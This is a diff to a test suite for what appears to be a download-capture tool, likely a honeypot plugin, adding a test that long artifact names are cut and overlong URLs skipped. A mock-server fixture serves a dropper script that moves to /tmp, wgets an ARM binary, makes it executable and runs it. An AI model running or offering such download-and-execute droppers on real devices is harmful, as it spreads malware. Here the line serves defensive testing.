@@ -38,6 +38,10 @@ before(async () => {
       res.end(`#!/bin/sh\ncd /tmp; wget ${base}/bins/x.arm; chmod +x x.arm; ./x.arm\n`);
       return;
     }
+    if (path.startsWith('/long/')) {
+      res.end(SCRIPT);
+      return;
+    }
     if (path === '/moved') {
       res.writeHead(302, { location: '/bins/x.arm' }).end();
       return;
@@ -277,6 +281,13 @@ test('a downloaded script (a text artifact) leads to the next download', async (
   } finally {
     await plugin.close();
   }
+});
+
+test('a file name longer than an artifact name may be is cut; a URL of 10,000 characters is skipped', async () => {
+  const name = 'a'.repeat(300);
+  const out = await run(`wget ${base}/long/${name}; wget ${base}/${'b'.repeat(10_000)}`);
+  assert.deepEqual(summary(out), [[`${base}/long/${name}`, 'ok', 'wget']]);
+  assert.equal(out.artifacts[0].name, name.slice(0, 255));
 });
 
 test('no URL, no download', async () => {
